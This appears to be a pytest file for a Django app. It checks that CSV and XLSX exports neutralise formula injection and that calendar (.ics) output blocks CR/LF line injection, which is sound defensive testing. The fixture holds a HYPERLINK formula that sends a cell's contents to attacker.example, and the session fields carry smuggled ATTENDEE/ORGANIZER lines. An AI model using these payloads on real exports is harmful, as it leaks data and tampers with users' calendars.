"""Exports and files that cannot attack their reader (issue 11 item 8): a value that looks like a formula stays
text in the CSV and the XLSX, and a bare CR or LF in a session's texts cannot inject a line into the .ics."""

import csv
import io

import pytest
from openpyxl import load_workbook

from sessions.notifications.calendar import session_ics
from sessions.reports import exports, figures
from tests import factories

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")'


@pytest.fixture
def sheet():
    session = factories.JobSessionFactory(status="completed")
    employer = factories.EmployerFactory(name=FORMULA)
    factories.ParticipationFactory(session=session, employer=employer)
    return figures.session_result_sheet(session)


def test_a_formula_in_a_name_is_text_in_the_xlsx(sheet):
    book = load_workbook(io.BytesIO(exports.sheet_to_xlsx(sheet)))

    cells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row if cell.value == FORMULA]
    assert cells, "the employer's name is in the file"
    assert {cell.data_type for cell in cells} == {"s"}  # a string, never "f" (formula)


def test_a_control_character_typed_in_a_name_or_a_comment_does_not_break_the_xlsx():
    session = factories.JobSessionFactory(status="completed")
    employer = factories.EmployerFactory(name="Công ty TNHH Thử\x07 Nghiệm\x1b")
    factories.ParticipationFactory(session=session, employer=employer)

    book = load_workbook(io.BytesIO(exports.sheet_to_xlsx(figures.session_result_sheet(session))))

    values = [cell.value for ws in book.worksheets for row in ws.iter_rows() for cell in row]
    assert "Công ty TNHH Thử Nghiệm" in values


def test_a_formula_in_a_name_is_quoted_in_the_csv(sheet):
    text = exports.sheet_to_csv(sheet).decode("utf-8-sig")
    fields = [field for row in csv.reader(io.StringIO(text)) for field in row]

    assert "'" + FORMULA in fields
    assert not any(field.startswith(("=", "+", "@")) for field in fields)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start):
    assert exports._csv_value(f"{start}1+1") == f"'{start}1+1"


def test_numbers_stay_numbers_in_the_csv():
    assert exports._csv_value(-5) == -5


def test_a_bare_cr_cannot_inject_a_line_into_the_ics():
    session = factories.JobSessionFactory(
        title="Phiên định kỳ\rATTENDEE:mailto:attacker@example.com",
        description="Mang theo hồ sơ\r\nORGANIZER:mailto:attacker@example.com\nkết thúc",
    )

    ics = session_ics(session).decode()
    lines = ics.replace("\r\n ", "").split("\r\n")  # unfold

    assert not any(line.startswith(("ATTENDEE", "ORGANIZER:mailto:attacker")) for line in lines)
    assert "\r" not in ics.replace("\r\n", "")
    assert sum(line.startswith("BEGIN:VEVENT") for line in lines) == 1
